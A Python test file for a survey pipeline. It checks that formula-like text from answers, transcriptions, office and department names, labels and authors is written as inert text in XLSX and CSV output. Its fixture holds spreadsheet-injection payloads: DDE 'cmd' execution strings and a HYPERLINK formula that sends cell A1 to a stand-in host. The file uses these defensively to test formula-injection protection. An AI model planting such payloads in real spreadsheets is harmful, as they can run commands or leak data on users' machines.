"""Nothing a stranger types runs in a spreadsheet (issue 18): formula-like text from every source — online answers,
transcriptions, the office's name, department names, question labels, batch labels, the report's author — is
written as text in the report's XLSX and CSV and in `ankieta export --format csv`."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from werkzeug.datastructures import MultiDict

from pipeline import store
from pipeline.base import cells
from pipeline.runs import export, reporting, responses, review, workspace
from tests.web.harness import copy_workspace

PAYLOADS = {
    "answer": '=cmd|"/C calc"!A0',
    "answer2": '=HYPERLINK("http://zly.example/?"&A1,"Kliknij")',
    "tab": "\t=1+1",
    "cr": "\r=2+2",
    "plus": "+48 600 100 200",
    "transcription": "-2+3 przepisane przez osobę przeglądającą",
    "office": '=HYPERLINK("http://zly.example/","Urząd")',
    "department": "+cmd|' /C notepad'!A0",
    "label": "@SUM(1+1) Wiek",
    "batch": "@SUM(A1:A9)",
    "author": "=1+1",
}
NUMBER = re.compile(r"-?\d+(,\d+)?")      # the CSV's own numbers (a change of -2,50 pp) are not text


@pytest.fixture
def ws(prepared_batch: Path, tmp_path: Path) -> workspace.Workspace:
    w = copy_workspace(prepared_batch / "ws", tmp_path / "ws")
    db = w.db
    store.set_office(db, "t", name=PAYLOADS["office"])
    store.add_department(db, "t", "zla", PAYLOADS["department"])
    layout = w.forms_dir / "lesko-f1.yaml"
    layout.write_text(layout.read_text("utf-8").replace('text: "Wiek"', f'text: "{PAYLOADS["label"]}"'), "utf-8")
    fv = workspace.publish_form(w, "lesko-f1")
    assert fv.version == 2 and fv.layout.question("q2").text == PAYLOADS["label"]
    texts = [PAYLOADS[k] for k in ("answer", "answer2", "tab", "cr", "plus")]
    for i in range(12):           # 8 answers name the department: its row is not merged with a small group (RODO)
        form = MultiDict([("q1", "kobieta"), ("q2", "26-35"), ("q4", "zla" if i % 3 else "fin"), ("q8.uprzejmosc", "5"),
                          ("uwagi.text", texts[i % len(texts)]), (responses.TOKEN_FIELD, responses.new_token()),
                          (responses.VERSION_FIELD, str(fv.version))])
        out = responses.submit_online(w, "lesko-f1", form)
        assert out.ok, out.parsed.errors
    manual = MultiDict([("q1", "kobieta"), (responses.TOKEN_FIELD, responses.new_token()),
                        (responses.VERSION_FIELD, str(fv.version))])
    assert responses.submit_manual(w, "lesko-f1", manual, batch_label=PAYLOADS["batch"], received=date.today()).ok
    area = store.rows(db, "select sheet_id, area_id from text_readings order by sheet_id limit 1")[0]
    review.transcribe(db, area["sheet_id"], area["area_id"], PAYLOADS["transcription"], "ala")
    _finish_review(w, area["sheet_id"])          # a final sheet: its texts are in the report too
    return w


def _finish_review(w: workspace.Workspace, sheet_id: str) -> None:
    for it in store.rows(w.db, "select kind, target from review_items where sheet_id = ? and status = 'open'", [sheet_id]):
        kind, target = it["kind"], it["target"]
        if kind == "box":
            review.decide_box(w.db, sheet_id, target, "empty", "ala")
        elif kind == "question":
            review.declare_invalid(w.db, sheet_id, target, "ala")
        elif kind == "text":
            review.transcribe(w.db, sheet_id, target, "", "ala")
        elif kind == "missing-page":
            review.accept_partial(w.db, sheet_id, "ala")
        elif kind == "duplicate":
            review.resolve_duplicate(w.db, sheet_id, "keep-original", "ala")
    assert store.rows(w.db, "select status from sheets where id = ?", [sheet_id])[0]["status"] == "final"


def _period() -> reporting.R.Period:
    return reporting.period_of(date(2020, 1, 1), date.today(), None)


def _csv_fields(text: str) -> list[str]:
    return [f for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for f in row]


def _assert_csv_safe(fields: list[str], expected: set[str]) -> None:
    live = [f for f in fields if cells.formula_like(f) and not NUMBER.fullmatch(f)]
    assert live == [], f"formula cells in the CSV: {live[:5]}"
    # every source reached the file: neutralised where it starts a cell, as typed where it follows other text
    # (a numbered question title "2. @SUM…" is not a formula)
    found = {p for p in expected if any(f.startswith("'" + p) or (p in f and not f.startswith(p)) for f in fields)}
    assert found == expected, f"missing (or changed) in the CSV: {expected - found}"


def test_report_xlsx_writes_every_formula_like_text_as_text(ws: workspace.Workspace, tmp_path: Path) -> None:
    made = reporting.generate(ws, _period(), "xlsx", tmp_path / "r.xlsx", PAYLOADS["author"])
    data = made.path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in z.read(n).decode("utf-8") or "<f " in z.read(n).decode("utf-8") for n in sheets)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts: dict[str, bool] = {}
    every: list[str] = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    every.append(c.value)
                    if cells.formula_like(c.value):
                        texts[c.value] = texts.get(c.value, True) and bool(c.quotePrefix)
    # every source reached the workbook exactly as typed (not mangled), and each formula-like cell is marked as text
    for key in ("answer", "answer2", "office", "department", "label", "batch", "author", "transcription"):
        assert any(PAYLOADS[key] in v for v in every), key
    assert texts and all(texts.values())
    assert any(v.startswith(PAYLOADS["answer"]) for v in texts)       # an answer starts its cell: the case that matters


def test_report_csv_neutralises_every_formula_like_text(ws: workspace.Workspace, tmp_path: Path) -> None:
    made = reporting.generate(ws, _period(), "csv", tmp_path / "r.csv", PAYLOADS["author"])
    fields = _csv_fields(made.path.read_text("utf-8"))
    _assert_csv_safe(fields, {PAYLOADS["department"], PAYLOADS["label"]})


def test_export_csv_neutralises_answers_transcriptions_and_batch_labels(ws: workspace.Workspace) -> None:
    fields = _csv_fields(export.export_csv(ws))
    # (the survey and the review strip surrounding whitespace: a leading tab or CR arrives as the formula behind it)
    expected = {PAYLOADS[k].strip() for k in ("answer", "answer2", "tab", "cr", "plus", "transcription", "batch")}
    _assert_csv_safe(fields, expected)


def test_the_rule() -> None:
    assert [cells.formula_like(t) for t in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", " =1", "", "ą")] == \
        [True] * 6 + [False] * 4
    assert cells.csv_cell("=1+1") == "'=1+1" and cells.csv_cell("Miła obsługa") == "Miła obsługa" and cells.csv_cell(5) == 5


